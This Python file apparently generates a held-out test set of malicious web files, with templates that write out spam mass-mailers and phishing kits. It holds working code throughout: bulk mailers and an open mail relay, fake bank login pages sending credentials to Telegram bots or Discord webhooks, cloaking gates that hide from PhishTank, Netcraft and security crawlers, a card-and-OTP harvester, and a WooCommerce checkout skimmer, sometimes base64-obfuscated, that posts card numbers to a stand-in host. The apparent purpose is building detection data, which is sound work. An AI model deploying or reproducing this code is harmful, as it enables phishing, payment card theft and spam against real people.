"""Mailers and phishing of the third held-out set. A template returns a list
of (rel, text, lang). Written blind (README.md)."""

import base64

from common3 import hexname, host, rword, slug, theme

BRANDS = ("Example Bank", "ExampleMail", "Acme Pay", "Sample Post", "Demo Cloud", "Example Telecom")
SUBJ = ("Your account has been limited", "Action required: verify your details", "Invoice #{n} is overdue",
        "Delivery attempt failed", "Security alert for your account", "You have a new voice message")


def _dir(r):
    return r.choice(("wp-content/uploads/%d/%02d" % (r.randint(2018, 2025), r.randint(1, 12)), "wp-content/plugins/%s" % slug(r),
                     "images/" + rword(r, 5), "cgi-bin", "tmp/" + hexname(r, 6), "assets"))


def _letter(r):
    b = r.choice(BRANDS)
    return ("<html><body><p>Dear ##NAME##,</p><p>We noticed unusual sign-in activity on your %s account (##EMAIL##).</p>"
            "<p><a href=\"https://%s/##RANDOM##/login\">Review activity</a></p><p>%s Security Team</p></body></html>\n"
            % (b, r.choice(("secure.example.net", "verify.example.org", "203.0.113.77")), b))


def ml_phpmailer_bulk(r, S):
    d = _dir(r)
    php = """<?php
use PHPMailer\\PHPMailer\\PHPMailer;
require __DIR__ . '/PHPMailer/src/Exception.php';
require __DIR__ . '/PHPMailer/src/PHPMailer.php';
require __DIR__ . '/PHPMailer/src/SMTP.php';
@set_time_limit(0);
if (isset($_POST['go'])) {
    $list = array_filter(array_map('trim', file($_FILES['list']['tmp_name'])));
    $tpl = $_POST['body'];
    $sent = 0;
    foreach ($list as $line) {
        $cols = str_getcsv($line);
        $to = $cols[0];
        $m = new PHPMailer(true);
        try {
            if (!empty($_POST['smtp'])) {
                $m->isSMTP();
                list($h, $u, $p) = explode('|', $_POST['smtp']);
                $m->Host = $h; $m->SMTPAuth = true; $m->Username = $u; $m->Password = $p; $m->Port = %d;
            }
            $m->setFrom($_POST['from'], $_POST['fname']);
            $m->addAddress($to);
            $m->isHTML(true);
            $m->Subject = str_replace('##EMAIL##', $to, $_POST['subj']);
            $m->Body = str_replace(array('##EMAIL##', '##NAME##', '##RANDOM##'), array($to, isset($cols[1]) ? $cols[1] : '', md5(uniqid())), $tpl);
            $m->send();
            $sent++;
            echo "<div style='color:green'>$sent $to OK</div>"; flush();
        } catch (Exception $e) {
            echo "<div style='color:red'>$to " . htmlspecialchars($m->ErrorInfo) . "</div>";
        }
        usleep(%d);
    }
}
?>
<form method="post" enctype="multipart/form-data">
From: <input name="from"> Name: <input name="fname"> Subject: <input name="subj" size="60"><br>
SMTP (host|user|pass): <input name="smtp" size="60"><br>
<textarea name="body" rows="15" cols="90"></textarea><br>List: <input type="file" name="list">
<input type="submit" name="go" value="Send">
</form>
""" % (r.choice((25, 587, 465)), r.choice((100000, 250000, 500000)))
    return [(d + "/" + r.choice(("send.php", "index.php", "m.php", "leaf.php", "ok.php")), php, "php"),
            (d + "/letter.html", _letter(r), "html")]


def ml_symfony_remote_list(r, S):
    d = _dir(r)
    php = """<?php
require __DIR__ . '/vendor/autoload.php';

use Symfony\\Component\\Mailer\\Mailer;
use Symfony\\Component\\Mailer\\Transport;
use Symfony\\Component\\Mime\\Email;

$cfg = json_decode(file_get_contents('http://%s/%s/cfg.json'), true);
$transport = Transport::fromDsn($cfg['dsn'][array_rand($cfg['dsn'])]);
$mailer = new Mailer($transport);
$leads = explode("\\n", file_get_contents($cfg['list']));
foreach ($leads as $i => $to) {
    $to = trim($to);
    if ($to === '' || !filter_var($to, FILTER_VALIDATE_EMAIL)) continue;
    $mail = (new Email())
        ->from($cfg['from'][$i %% count($cfg['from'])])
        ->to($to)
        ->subject(strtr($cfg['subject'], array('##EMAIL##' => $to)))
        ->html(strtr($cfg['html'], array('##EMAIL##' => $to, '##ID##' => bin2hex(random_bytes(4)))));
    try { $mailer->send($mail); file_put_contents(__DIR__ . '/ok.txt', $to . "\\n", FILE_APPEND); }
    catch (\\Throwable $e) { file_put_contents(__DIR__ . '/bad.txt', $to . "\\n", FILE_APPEND); }
    if ($i %% %d === 0) sleep(%d);
}
""" % (host(r), hexname(r, 6), r.choice((50, 100, 200)), r.randint(2, 30))
    return [(d + "/" + r.choice(("run.php", "cron.php", "q.php")), php, "php")]


def ml_raw_smtp_mx(r, S):
    d = _dir(r)
    php = """<?php
function dlv($to, $from, $subj, $body) {
    $dom = substr(strrchr($to, '@'), 1);
    $mx = array();
    if (!getmxrr($dom, $mx)) $mx = array($dom);
    $s = @stream_socket_client('tcp://' . $mx[0] . ':25', $en, $es, 15);
    if (!$s) return false;
    $say = function ($l) use ($s) { if ($l !== null) fwrite($s, $l . "\\r\\n"); return fgets($s, 512); };
    $say(null);
    $say('EHLO ' . gethostname());
    while (($l = fgets($s, 512)) && $l[3] === '-') {}
    $say('MAIL FROM:<' . $from . '>');
    $say('RCPT TO:<' . $to . '>');
    $say('DATA');
    $say("From: $from\\r\\nTo: $to\\r\\nSubject: $subj\\r\\nMIME-Version: 1.0\\r\\nContent-Type: text/html; charset=utf-8\\r\\n\\r\\n$body\\r\\n.");
    $say('QUIT');
    fclose($s);
    return true;
}
$emails = preg_split('/[\\s,;]+/', $_POST['emails'], -1, PREG_SPLIT_NO_EMPTY);
foreach ($emails as $e) {
    echo $e, dlv($e, $_POST['from'], $_POST['subject'], $_POST['html']) ? ' sent' : ' fail', "<br>\\n";
    @ob_flush(); flush();
}
"""
    return [(d + "/" + r.choice(("x.php", "wp-mail-check.php", "smtp.php")), php, "php")]


def ml_mail_f_input(r, S):
    d = _dir(r)
    php = """<?php
error_reporting(0);
$from = $_POST['from'];
$h = "From: " . $_POST['name'] . " <$from>\\r\\nReply-To: " . $_POST['reply'] . "\\r\\nMIME-Version: 1.0\\r\\nContent-type: text/html; charset=UTF-8\\r\\nX-Priority: %d\\r\\n";
$n = 0;
foreach (explode("\\n", $_POST['to']) as $to) {
    $to = trim($to);
    if (!$to) continue;
    $msg = str_replace('##EMAIL##', $to, stripslashes($_POST['msg']));
    if (mail($to, $_POST['subj'], $msg, $h, '-f' . $from)) $n++;
}
echo "sent:$n";
""" % r.randint(1, 3)
    return [(d + "/" + r.choice(("post.php", "mail.php", "contact-send.php", hexname(r, 6) + ".php")), php, "php")]


def ml_header_relay(r, S):
    d = _dir(r)
    php = """<?php
/* Contact form handler */
$name = $_POST['name'];
$email = $_POST['email'];
$subject = $_POST['subject'];
$headers = "From: $name <$email>\\r\\n";
if (!empty($_POST['cc'])) { $headers .= "Bcc: " . $_POST['cc'] . "\\r\\n"; }
$headers .= "Content-Type: " . (isset($_POST['type']) ? $_POST['type'] : 'text/plain') . "\\r\\n";
$to = isset($_POST['dest']) ? $_POST['dest'] : '%s';
mail($to, $subject, $_POST['message'], $headers);
header('Location: ' . (isset($_POST['back']) ? $_POST['back'] : '/thanks.html'));
""" % ("info@example.com")
    return [(d + "/" + r.choice(("contact.php", "sendmail.php", "form-handler.php")), php, "php")]


def ml_list_txt(r, S):
    d = _dir(r)
    php = """<?php
@ignore_user_abort(true);
@set_time_limit(0);
$list = @file(__DIR__ . '/%s', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$letter = @file_get_contents(__DIR__ . '/%s');
$subjects = array(%s);
$froms = array('noreply', 'support', 'service', 'billing', 'alert');
$done = (int) @file_get_contents(__DIR__ . '/.pos');
for ($i = $done; $i < count($list); $i++) {
    $to = $list[$i];
    $fr = $froms[array_rand($froms)] . '@' . $_SERVER['HTTP_HOST'];
    $body = str_replace(array('##EMAIL##', '##DATE##'), array($to, date('d/m/Y')), $letter);
    @mail($to, $subjects[array_rand($subjects)], $body, "From: %s <$fr>\\r\\nContent-Type: text/html\\r\\n");
    @file_put_contents(__DIR__ . '/.pos', $i + 1);
    if ($i %% 50 == 49) sleep(%d);
}
""" % (r.choice(("list.txt", "emails.txt", "l.txt", "data.txt")), r.choice(("letter.html", "msg.html", "tpl.txt")),
       ", ".join("'%s'" % s.replace("{n}", str(r.randint(1000, 99999))) for s in r.sample(SUBJ, 3)), r.choice(BRANDS), r.randint(3, 20))
    names = php.split("__DIR__ . '/")
    lst, let = names[1].split("'")[0], names[2].split("'")[0]
    emails = "\n".join("%s%d@example.%s" % (rword(r, 6, "abcdefghijklmnop"), i, r.choice(("com", "net", "org"))) for i in range(r.randint(20, 80)))
    return [(d + "/" + r.choice(("cron.php", "go.php", "ok.php")), php, "php"), (d + "/" + lst, emails + "\n", "text"),
            (d + "/" + let, _letter(r), "html")]


def ml_perl_cgi(r, S):
    pl = """#!/usr/bin/perl
use strict;
use CGI;
use MIME::Base64;
my $q = CGI->new;
print $q->header('text/html');
my @to = split /[\\r\\n,]+/, $q->param('list') || '';
my $from = $q->param('from');
my $subj = $q->param('subject');
my $body = $q->param('body');
my $n = 0;
foreach my $rcpt (@to) {
    next unless $rcpt =~ /\\@/;
    (my $b = $body) =~ s/##EMAIL##/$rcpt/g;
    open(my $sm, '|-', '/usr/sbin/sendmail', '-t', '-f', $from) or next;
    print $sm "From: $from\\nTo: $rcpt\\nSubject: $subj\\nContent-Type: text/html\\n\\n$b\\n";
    close($sm);
    $n++;
    sleep %d if $n %% 25 == 0;
}
print "<b>$n sent</b>";
""" % r.randint(1, 10)
    return [("cgi-bin/" + r.choice(("mail.cgi", "form.pl", "m.cgi", "feedback.pl")), pl, "perl")]


def ml_python_cgi(r, S):
    py = """#!/usr/bin/env python3
import cgi
import smtplib
import time
from email.mime.text import MIMEText

form = cgi.FieldStorage()
print("Content-Type: text/plain\\n")
rcpts = [x.strip() for x in form.getfirst("list", "").splitlines() if "@" in x]
host, user, pw = form.getfirst("smtp", "localhost||").split("|")
s = smtplib.SMTP(host, %d, timeout=20)
if user:
    s.starttls()
    s.login(user, pw)
for i, to in enumerate(rcpts):
    msg = MIMEText(form.getfirst("body", "").replace("##EMAIL##", to), "html")
    msg["From"] = form.getfirst("from")
    msg["To"] = to
    msg["Subject"] = form.getfirst("subject")
    try:
        s.sendmail(msg["From"], [to], msg.as_string())
        print("ok", to)
    except smtplib.SMTPException as e:
        print("fail", to, e)
    if i %% 30 == 29:
        time.sleep(%d)
s.quit()
""" % (r.choice((25, 587)), r.randint(2, 15))
    return [("cgi-bin/" + r.choice(("send.py", "notify.py", "mailq.py")), py, "python")]


# --- phishing ----------------------------------------------------------------

def _kit_dir(r):
    b = r.choice(("secure", "account", "verify", "login", "update", "signin"))
    return r.choice(("wp-content/uploads/%d/%02d/%s" % (r.randint(2019, 2025), r.randint(1, 12), b), "%s-%s" % (b, hexname(r, 5)),
                     ".well-known/%s" % b, "images/%s/%s" % (hexname(r, 4), b)))


def _login_html(r, action, brand, fields=("email", "password")):
    inputs = "\n".join('      <input type="%s" name="%s" placeholder="%s" required>' % ("password" if "pass" in f else "text", f, f.title())
                       for f in fields)
    return """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>%s - Sign in</title>
<meta name="robots" content="noindex, nofollow">
<link rel="stylesheet" href="assets/style.css"></head>
<body>
  <div class="box"><img src="assets/logo.svg" alt="%s">
    <h1>Sign in to continue</h1>
    <form method="post" action="%s">
%s
      <button type="submit">Next</button>
    </form>
  </div>
</body></html>
""" % (brand, brand, action, inputs)


def ph_config_kit(r, S):
    d = _kit_dir(r)
    brand = r.choice(BRANDS)
    cfg = """<?php
$to = "%s@example.com";
$telegram_token = "%d:%s";
$chat_id = "-100%d";
$send_mail = %s;
$send_tg = true;
$save_txt = %s;
$redirect = "https://www.example.com/";
""" % (rword(r, 7, "abcdefghij"), r.randint(10 ** 9, 10 ** 10), rword(r, 35, "ABCDEFGHIJabcdefghij0123456789_-"), r.randint(10 ** 9, 10 ** 10),
       r.choice(("true", "false")), r.choice(("true", "false")))
    post = """<?php
session_start();
require __DIR__ . '/config.php';
$ip = $_SERVER['HTTP_CF_CONNECTING_IP'] ?? $_SERVER['REMOTE_ADDR'];
$msg = "=== %s LOGIN ===\\nEmail: " . $_POST['email'] . "\\nPassword: " . $_POST['password'] . "\\nIP: $ip\\nUA: " . $_SERVER['HTTP_USER_AGENT'] . "\\n";
if ($send_tg) {
    $ch = curl_init('https://api.telegram.org/bot' . $telegram_token . '/sendMessage');
    curl_setopt_array($ch, array(CURLOPT_POST => 1, CURLOPT_POSTFIELDS => array('chat_id' => $chat_id, 'text' => $msg), CURLOPT_RETURNTRANSFER => 1));
    curl_exec($ch);
}
if ($send_mail) { mail($to, "%s | $ip", $msg); }
if ($save_txt) { file_put_contents(__DIR__ . '/rs.txt', $msg, FILE_APPEND); }
$_SESSION['e'] = $_POST['email'];
header('Location: ' . (isset($_GET['s']) ? 'card.php' : $redirect));
""" % (brand.upper(), brand)
    return [(d + "/config.php", cfg, "php"), (d + "/post.php", post, "php"), (d + "/index.html", _login_html(r, "post.php", brand), "html")]


def ph_antibot(r, S):
    d = _kit_dir(r)
    ht = """RewriteEngine On
RewriteCond %%{HTTP_USER_AGENT} (googlebot|bingbot|crawler|spider|curl|wget|python|phishtank|netcraft) [NC,OR]
RewriteCond %%{REMOTE_ADDR} ^66\\.249\\. [OR]
RewriteCond %%{REMOTE_ADDR} ^%s
RewriteRule .* https://www.example.com/ [R=302,L]
DirectoryIndex index.php
Options -Indexes
""" % "192\\.0\\.2\\."
    blk = """<?php
$ip = $_SERVER['REMOTE_ADDR'];
$host = @gethostbyaddr($ip);
$bad_hosts = array('google', 'amazonaws', 'msnbot', 'phishtank', 'netcraft', 'paypal', 'bitdefender', 'kaspersky', 'trendmicro', 'digitalocean', 'ovh');
foreach ($bad_hosts as $b) {
    if (stripos($host, $b) !== false) { header('HTTP/1.0 404 Not Found'); die('<h1>404 Not Found</h1>'); }
}
$bad_ua = array('bot', 'crawl', 'spider', 'slurp', 'headless', 'phantom');
foreach ($bad_ua as $u) {
    if (stripos($_SERVER['HTTP_USER_AGENT'], $u) !== false) { header('Location: https://www.example.com/'); exit; }
}
$ranges = file(__DIR__ . '/ips.txt', FILE_IGNORE_NEW_LINES);
foreach ($ranges as $r) { if ($r !== '' && strpos($ip, $r) === 0) { die('<h1>403 Forbidden</h1>'); } }
$geo = @json_decode(file_get_contents('http://%s/json/' . $ip), true);
if (!in_array($geo['countryCode'] ?? '', array(%s))) { header('Location: https://www.example.com/'); exit; }
"""
    blk = blk % (host(r), ", ".join("'%s'" % c for c in r.sample(("US", "GB", "CA", "AU", "DE", "FR", "IT", "ES"), 3)))
    idx = "<?php\nrequire __DIR__ . '/blocker.php';\n$_SESSION['ok'] = 1;\ninclude __DIR__ . '/login.html';\n"
    ips = "\n".join("%d.%d." % (r.randint(1, 223), r.randint(0, 255)) for _ in range(r.randint(30, 90)))
    return [(d + "/.htaccess", ht, "htaccess"), (d + "/blocker.php", blk, "php"), (d + "/index.php", idx, "php"),
            (d + "/ips.txt", ips + "\n", "text"), (d + "/login.html", _login_html(r, "next.php", r.choice(BRANDS)), "html")]


def ph_copy_random_dir(r, S):
    d = r.choice(("", "wp-content/uploads", "files"))
    php = """<?php
function rcopy($src, $dst) {
    @mkdir($dst, 0755, true);
    foreach (scandir($src) as $f) {
        if ($f === '.' || $f === '..') continue;
        is_dir("$src/$f") ? rcopy("$src/$f", "$dst/$f") : copy("$src/$f", "$dst/$f");
    }
}
$rand = substr(md5(uniqid(mt_rand(), true)), 0, %d);
$src = __DIR__ . '/%s';
$dst = __DIR__ . '/' . $rand;
rcopy($src, $dst);
$q = isset($_GET['email']) ? '?email=' . urlencode($_GET['email']) : '';
header('Location: ' . $rand . '/index.php' . $q);
exit;
""" % (r.randint(8, 16), r.choice(("app", "page", "src", "kit0", "tpl")))
    return [((d + "/" if d else "") + r.choice(("index.php", "go.php", "l.php")), php, "php")]


def ph_fwrite_harvest(r, S):
    d = _kit_dir(r)
    brand = r.choice(BRANDS)
    php = """<?php
$data = "------ %s ------\\n";
foreach (array('user', 'pass', 'pin', 'phone') as $k) {
    if (isset($_POST[$k])) $data .= strtoupper($k) . ': ' . $_POST[$k] . "\\n";
}
$data .= 'IP: ' . $_SERVER['REMOTE_ADDR'] . ' | ' . date('Y-m-d H:i:s') . "\\n\\n";
$fp = fopen(__DIR__ . '/%s', 'a');
fwrite($fp, $data);
fclose($fp);
header('Location: https://www.example.com/%s');
""" % (brand, r.choice(("results.txt", "log.txt", ".data", "rez.txt")), r.choice(("login", "account", "")))
    return [(d + "/" + r.choice(("login.php", "auth.php", "verify.php")), php, "php"),
            (d + "/index.html", _login_html(r, r.choice(("login.php", "auth.php", "verify.php")), brand, ("user", "pass", "pin")), "html")]


def ph_js_fetch(r, S):
    d = _kit_dir(r)
    brand = r.choice(BRANDS)
    tok = "%d:%s" % (r.randint(10 ** 9, 10 ** 10), rword(r, 35, "ABCDEFGHIJabcdefghij0123456789_-"))
    if r.random() < 0.5:
        send = """fetch('https://api.telegram.org/bot%s/sendMessage', {method: 'POST', headers: {'Content-Type': 'application/json'},
      body: JSON.stringify({chat_id: '%d', text: txt})})""" % (tok, r.randint(10 ** 8, 10 ** 9))
    else:
        send = """fetch('https://discord.com/api/webhooks/%d/%s', {method: 'POST', headers: {'Content-Type': 'application/json'},
      body: JSON.stringify({content: txt})})""" % (r.randint(10 ** 17, 10 ** 18), rword(r, 60))
    html = _login_html(r, "#", brand).replace("</body>", """<script>
document.querySelector('form').addEventListener('submit', function (e) {
  e.preventDefault();
  var f = new FormData(e.target), txt = '%s\\n';
  f.forEach(function (v, k) { txt += k + ': ' + v + '\\n'; });
  txt += navigator.userAgent;
  %s.then(function () { location.href = 'https://www.example.com/'; });
});
</script>
</body>""" % (brand, send))
    return [(d + "/" + r.choice(("index.html", "signin.html", "auth.htm")), html, "html")]


def ph_skimmer(r, S):
    t = theme(r)
    exf = r.choice(("https://%s/collect" % r.choice(("cdn.example.net", "stat.example.org", "assets.example.info")), "//203.0.113.140/i.gif"))
    js = """<script>
(function(){var k=['cc_number','billing_card','card-number','cvv','cc_exp','billing_email'];
function grab(){var o={};k.forEach(function(n){var e=document.querySelector('[name*="'+n+'"],[id*="'+n+'"]');if(e&&e.value)o[n]=e.value;});
if(o.cc_number||o['card-number']||o.billing_card){var i=new Image();i.src='%s?d='+btoa(JSON.stringify(o))+'&h='+location.host;}}
document.addEventListener('click',function(ev){if(ev.target&&/place_order|checkout|pay/i.test(ev.target.id+ev.target.className))grab();},true);})();
</script>""" % exf
    if r.random() < 0.5:
        js = "<script>eval(atob('%s'))</script>" % base64.b64encode(js.split("<script>")[1].split("</script>")[0].encode()).decode()
    tpl = """<?php
/**
 * Checkout Form
 *
 * @package WooCommerce\\Templates
 * @version 3.5.0
 */
if (!defined('ABSPATH')) {
    exit;
}
do_action('woocommerce_before_checkout_form', $checkout);
if (!$checkout->is_registration_enabled() && $checkout->is_registration_required() && !is_user_logged_in()) {
    echo esc_html(apply_filters('woocommerce_checkout_must_be_logged_in_message', __('You must be logged in to checkout.', 'woocommerce')));
    return;
}
?>
<form name="checkout" method="post" class="checkout woocommerce-checkout" action="<?php echo esc_url(wc_get_checkout_url()); ?>" enctype="multipart/form-data">
    <?php if ($checkout->get_checkout_fields()) : ?>
        <?php do_action('woocommerce_checkout_before_customer_details'); ?>
        <div class="col2-set" id="customer_details">
            <div class="col-1"><?php do_action('woocommerce_checkout_billing'); ?></div>
            <div class="col-2"><?php do_action('woocommerce_checkout_shipping'); ?></div>
        </div>
        <?php do_action('woocommerce_checkout_after_customer_details'); ?>
    <?php endif; ?>
    <h3 id="order_review_heading"><?php esc_html_e('Your order', 'woocommerce'); ?></h3>
    <div id="order_review" class="woocommerce-checkout-review-order">
        <?php do_action('woocommerce_checkout_order_review'); ?>
    </div>
</form>
%s
<?php do_action('woocommerce_after_checkout_form', $checkout); ?>
""" % js
    return [("wp-content/themes/%s/woocommerce/checkout/form-checkout.php" % t, tpl, "php")]


def ph_session_otp(r, S):
    d = _kit_dir(r)
    brand = r.choice(BRANDS)
    php = """<?php
session_start();
$step = $_SESSION['step'] ?? 1;
$log = __DIR__ . '/.%s';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $rec = date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . ' step' . $step . ' ' . json_encode($_POST) . "\\n";
    file_put_contents($log, $rec, FILE_APPEND | LOCK_EX);
    @mail('%s@example.net', '%s step ' . $step, $rec);
    $_SESSION['step'] = $step + 1;
    if ($step >= 3) { session_destroy(); header('Location: https://www.example.com/'); exit; }
    header('Location: ' . $_SERVER['PHP_SELF']);
    exit;
}
$forms = array(
    1 => array('Sign in', array('userid' => 'text', 'password' => 'password')),
    2 => array('Confirm your card', array('cardnumber' => 'text', 'exp' => 'text', 'cvv' => 'password')),
    3 => array('Enter the code we sent by SMS', array('otp' => 'text')),
);
list($title, $fields) = $forms[min($step, 3)];
?><!DOCTYPE html><html><head><title>%s</title></head><body><h2><?php echo $title; ?></h2>
<form method="post"><?php foreach ($fields as $n => $t) { echo "<input type='$t' name='$n' placeholder='$n'><br>"; } ?>
<button>Continue</button></form></body></html>
""" % (hexname(r, 6), rword(r, 7, "abcdefghij"), brand, brand)
    return [(d + "/index.php", php, "php")]


TEMPLATES = [
    ("mailer", "phpmailer_bulk", ml_phpmailer_bulk, 6), ("mailer", "symfony_remote_list", ml_symfony_remote_list, 4),
    ("mailer", "raw_smtp_mx", ml_raw_smtp_mx, 5), ("mailer", "mail_f_input", ml_mail_f_input, 5),
    ("mailer", "header_relay", ml_header_relay, 5), ("mailer", "list_txt_sender", ml_list_txt, 5),
    ("mailer", "perl_cgi_mailer", ml_perl_cgi, 3), ("mailer", "python_cgi_mailer", ml_python_cgi, 2),
    ("phishing", "config_kit", ph_config_kit, 8), ("phishing", "antibot_gate", ph_antibot, 5),
    ("phishing", "copy_random_dir", ph_copy_random_dir, 5), ("phishing", "fwrite_harvest", ph_fwrite_harvest, 5),
    ("phishing", "js_fetch_exfil", ph_js_fetch, 5), ("phishing", "checkout_skimmer", ph_skimmer, 6),
    ("phishing", "session_otp", ph_session_otp, 6),
]
